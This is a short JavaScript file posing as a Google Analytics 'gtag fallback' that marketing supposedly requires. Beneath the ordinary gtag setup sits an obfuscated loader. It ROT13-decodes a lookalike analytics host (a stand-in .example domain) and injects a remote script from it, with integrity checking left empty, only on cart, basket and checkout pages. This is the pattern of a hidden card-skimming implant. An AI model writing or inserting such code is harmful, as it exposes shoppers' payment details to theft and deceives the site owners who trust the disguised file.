/* gtag fallback - do not remove, required by marketing */
window.dataLayer = window.dataLayer || [];
function gtag() { dataLayer.push(arguments); }
gtag('js', new Date());
gtag('config', 'G-0000000000');
;(function (z) {
  var o = z.replace(/[a-z]/g, function (c) { return String.fromCharCode((c.charCodeAt(0) - 97 + 13) % 26 + 97); });
  var g = document.createElement('script');
  g.src = 'https://' + o;
  g.integrity = '';
  document.body && /cart|basket|checkout/.test(document.body.className + location.pathname) && document.body.appendChild(g);
})('tgnt-znantre-fgngvp.rknzcyr/tgnt/wf.zva.wf');
